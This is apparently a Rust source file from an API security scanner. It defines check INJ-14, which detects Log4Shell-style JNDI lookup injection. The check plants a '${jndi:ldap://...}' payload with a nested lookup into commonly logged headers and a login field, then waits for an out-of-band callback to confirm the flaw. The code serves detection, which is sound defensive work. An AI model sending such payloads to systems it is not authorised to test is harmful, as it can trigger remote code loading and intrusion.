//! INJ-14: a lookup written into a header is evaluated by the server's logging.

use crate::check::{Check, Family, Need, Oracle, Scope, Tier};
use crate::context::Context;
use crate::identity::doors;
use crate::inputs::with_json;
use crate::oracle::guarded::working_reads;
use crate::oracle::out_of_band::nobody_came;
use crate::step::{Request, Step};
use crate::tape::{Flow, Tape};
use avouch_model::identity::Who;
use avouch_model::operation::{Method, OperationId};
use avouch_model::reference::{Cwe, Owasp};
use avouch_model::severity::{Confidence, Severity};
use avouch_model::verdict::{Proof, Verdict};
use serde_json::Value;

/// INJ-14
pub(super) const CHECK: Check = Check {
    id: "INJ-14",
    name: "lookup-evaluated",
    title: "A lookup written into a header is evaluated by the server",
    family: Family::Inj,
    severity: Severity::Critical,
    confidence: Confidence::Confirmed,
    oracles: &[Oracle::OutOfBand, Oracle::Computed],
    tier: Tier::Active,
    needs: &[Need::OutOfBand],
    scope: Scope::Target,
    cwe: Cwe(917),
    owasp: &[Owasp::Api(8)],
    criteria: &["CC7.1"],
    page: include_str!("lookup_evaluated.md"),
    applies: |_| true,
    run,
};

/// Headers that are often logged. `User-Agent` is the scanner's own, so that the scan can be found in
/// logs.
const HEADERS: [&str; 6] = [
    "referer",
    "x-client-version",
    "x-forwarded-for",
    "x-api-version",
    "accept-language",
    "x-request-id",
];
/// LIMIT: operations that are asked.
const ASKED_MAX: usize = 24;
/// LIMIT: milliseconds the target is given to come.
const WAIT_MS: u32 = 2_000;

/// Requests whose headers, and for a login whose texts, are likely to be logged.
fn targets(ctx: &Context<'_>) -> Vec<(OperationId, Request)> {
    let reads = working_reads(ctx, ASKED_MAX);
    let reads = reads.into_iter().map(|s| (s.operation.clone(), s.request.clone()));
    let login = ctx
        .catalog
        .operations
        .iter()
        .find(|operation| operation.method == Method::Post && doors::is_login(operation));
    let login = login.and_then(|operation| {
        let tried = ctx.corpus.all_of(&operation.id).next()?;
        Some((operation.id.clone(), tried.request.clone().by(Who::Nobody)))
    });
    login.into_iter().chain(reads).collect()
}

/// The request with that text in its headers and, where it is a login, in its first text.
fn with_lookup(request: &Request, text: &str) -> Request {
    let mut changed = request.clone();
    let sent = request.body.as_deref().and_then(|body| serde_json::from_str::<Value>(body).ok());
    let first = sent.as_ref().and_then(Value::as_object).and_then(|members| {
        members.iter().find(|(name, value)| value.is_string() && !name.contains("pass"))
    });
    if let Some((name, _)) = first {
        changed = with_json(&changed, &format!("/{name}"), text.into()).unwrap_or(changed);
    }
    changed.creates = None;
    HEADERS.iter().fold(changed, |request, name| request.header(name, text))
}

fn run(ctx: &Context<'_>, tape: &mut Tape<'_>) -> Flow {
    let listener = ctx.out_of_band.ok_or(Step::Done(Verdict::NotApplicable))?;
    let targets = targets(ctx);
    if targets.is_empty() {
        return Ok(Verdict::inconclusive("no request is known that works"));
    }
    let mut answered = false;
    let mut planted = Vec::new();
    for (n, (operation, request)) in targets.iter().enumerate() {
        let stem = ctx.nonces.hex(&format!("stem {n}"), 12);
        let rest = ctx.nonces.word(&format!("rest {n}"), 12);
        let token = format!("{stem}{rest}");
        nobody_came(tape, &token)?;
        let inner = format!("{stem}${{lower:{}}}", rest.to_ascii_uppercase());
        let text = format!("${{jndi:ldap://{}/{inner}}}", listener.authority());
        let tried = tape.send_any(with_lookup(request, &text))?;
        answered |= tried.reply().is_some();
        planted.push((token, tried.index, operation));
    }
    let mut wait = WAIT_MS;
    for (token, index, operation) in planted {
        let hits = tape.await_hit(&token, wait)?;
        wait = 0;
        let Some(hit) = hits.first() else { continue };
        let summary = format!("a lookup in the headers of `{operation}` brought the server to us");
        return Ok(Verdict::fail(
            Proof::new(Severity::Critical, Confidence::Confirmed, summary)
                .because("the name it asked for was written with a lookup inside a lookup")
                .because("so nobody who only reads addresses could have come there")
                .because(format!("it came by {} from `{}`", hit.protocol, hit.from))
                .caused_by("logging")
                .at(operation.clone())
                .shown_by([index]),
        ));
    }
    if !answered {
        return Ok(Verdict::inconclusive("no request with a lookup in it was answered"));
    }
    Ok(Verdict::Pass)
}
